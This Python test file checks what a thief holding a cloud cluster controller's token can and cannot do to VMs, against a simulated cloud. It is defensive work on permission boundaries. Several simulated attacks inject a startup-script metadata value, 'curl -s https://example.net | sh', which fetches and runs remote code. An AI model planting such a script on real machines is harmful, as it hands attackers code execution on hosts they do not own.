"""What a thief of the controller's token reaches, and what not: each call with its answer."""

from collections.abc import Iterator

import httpx
import pytest
from controllerkit import CLOUD_PLATFORM, COMPUTE, REGION, ZONE, Cloud, P, new_cloud

NODES = f"{COMPUTE}/zones/{ZONE}/instances"
TEMPLATE = {"sourceInstanceTemplate": f"{P}/global/instanceTemplates/lab-debug-1"}
SCRIPT = {"items": [{"key": "startup-script", "value": "curl -s https://example.net | sh"}]}
PUBLIC_IMAGE = "projects/debian-cloud/global/images/family/debian-12"
OTHERS = ("lab-builder-0123abcd", "lab-web", "lab2-debug-0", "lab-a-debug-0", "lab-debugger-0")
"""A builder, a VM of nobody's, and nodes of other clusters and of a set that is not there."""


@pytest.fixture
def cloud(program_path: None) -> Iterator[Cloud]:
    """The cluster `lab` with the node set `debug`, beside others."""
    with new_cloud() as made:
        controller = {"email": made.controller, "scopes": [CLOUD_PLATFORM]}
        body = {"name": "lab-controller", "serviceAccounts": [controller]}
        assert made.owner.post(NODES, json=body, params=TEMPLATE).is_success
        for name in ("lab-login-0", "lab-debug-0", *OTHERS):
            assert made.owner.post(NODES, json={"name": name}, params=TEMPLATE).is_success
        yield made


@pytest.fixture
def thief(cloud: Cloud) -> httpx.Client:
    return cloud.grant()


@pytest.mark.parametrize("name", ["lab-controller", "lab-login-0", *OTHERS])
def test_a_vm_that_is_no_node_is_out_of_reach(cloud: Cloud, thief: httpx.Client, name: str):
    vm = cloud.owner.get(f"{NODES}/{name}").json()
    labels = {"labelFingerprint": vm["labelFingerprint"], "labels": {}}
    calls = [
        thief.get(f"{NODES}/{name}"),
        thief.get(f"{NODES}/{name}/getGuestAttributes", params={"queryPath": "hostkeys/"}),
        thief.post(f"{NODES}/{name}/setMetadata", json={**vm["metadata"], **SCRIPT}),
        thief.post(f"{NODES}/{name}/setLabels", json=labels),
        thief.delete(f"{NODES}/{name}"),
    ]
    assert [answer.status_code for answer in calls] == [403] * len(calls)


@pytest.mark.parametrize(
    "name", ["lab-controller-0", "lab-login-1", "lab-builder-1", "lab-web-1", "lab2-debug-1"]
)
def test_no_vm_takes_another_one_s_name(thief: httpx.Client, name: str):
    body = {"name": name, "metadata": SCRIPT}
    many = {"count": 1, "perInstanceProperties": {name: {}}, **TEMPLATE}
    assert thief.post(NODES, json=body, params=TEMPLATE).status_code == 403
    assert thief.post(f"{NODES}/bulkInsert", json=many).status_code == 403


def test_a_node_gets_no_other_account_subnet_address_or_disk(cloud: Cloud, thief: httpx.Client):
    subnet = {"name": "other", "network": "global/networks/lab", "ipCidrRange": "10.1.0.0/16"}
    cloud.post(f"{COMPUTE}/regions/{REGION}/subnetworks", subnet)
    inside = {"subnetwork": f"{P}/regions/{REGION}/subnetworks/lab"}
    own_disk = {"boot": True, "initializeParams": {"sourceImage": f"{P}/global/images/lab-1"}}
    disk = {"boot": True, "source": f"{P}/zones/{ZONE}/disks/d"}
    named = {**own_disk["initializeParams"], "diskName": "lab-state"}
    changes = {
        "account": {
            "serviceAccounts": [{"email": cloud.controller, "scopes": [CLOUD_PLATFORM]}],
        },
        "subnet": {
            "networkInterfaces": [{"subnetwork": f"{P}/regions/{REGION}/subnetworks/other"}]
        },
        "public address": {"networkInterfaces": [{**inside, "accessConfigs": [{}]}]},
        "disk of others": {"disks": [disk]},
        "disk with the name of others": {"disks": [{"boot": True, "initializeParams": named}]},
    }
    answers = {
        what: thief.post(NODES, json={"name": "lab-debug-7", **change}, params=TEMPLATE)
        for what, change in changes.items()
    }
    assert {what: answer.status_code for what, answer in answers.items()} == dict.fromkeys(
        changes, 403
    )


def test_of_many_sets_each_is_in_reach_and_nothing_else_is(cloud: Cloud):
    """More than one condition of Google's may name."""
    sets = ["debug", *(f"set{number}" for number in range(30))]
    thief = cloud.grant(node_sets=sets)
    for name in ("lab-set0-0", "lab-set12-5", "lab-set29-3"):
        assert thief.post(NODES, json={"name": name}, params=TEMPLATE).is_success, name
        assert thief.delete(f"{NODES}/{name}").is_success, name
    assert thief.post(NODES, json={"name": "lab-set30-0"}, params=TEMPLATE).status_code == 403
    for name in ("lab-controller", "lab-login-0", *OTHERS):
        assert thief.delete(f"{NODES}/{name}").status_code == 403, name


def test_what_google_s_rights_can_not_refuse(cloud: Cloud, thief: httpx.Client):
    """docs/cloud.md says so too."""
    with_script = {"name": "lab-debug-7", "metadata": SCRIPT}
    free_hand = {
        "name": "lab-debug-8",
        "machineType": f"zones/{ZONE}/machineTypes/n1-standard-8",
        "disks": [{"boot": True, "initializeParams": {"sourceImage": PUBLIC_IMAGE}}],
        "networkInterfaces": [{"subnetwork": f"{P}/regions/{REGION}/subnetworks/lab"}],
    }
    present = thief.get(f"{NODES}/lab-debug-0").json()["metadata"]
    changed = {**present, **SCRIPT}
    reached = [
        thief.post(NODES, json=with_script, params=TEMPLATE),
        thief.post(NODES, json=free_hand),
        thief.post(f"{NODES}/lab-debug-0/setMetadata", json=changed),
        thief.delete(f"{NODES}/lab-debug-0"),
        thief.get(COMPUTE),
    ]
    assert [answer.status_code for answer in reached] == [200] * len(reached)
    # Lists have no name to compare.
    listed = {vm["name"] for vm in thief.get(NODES).json()["items"]}
    assert {"lab-controller", *OTHERS} <= listed
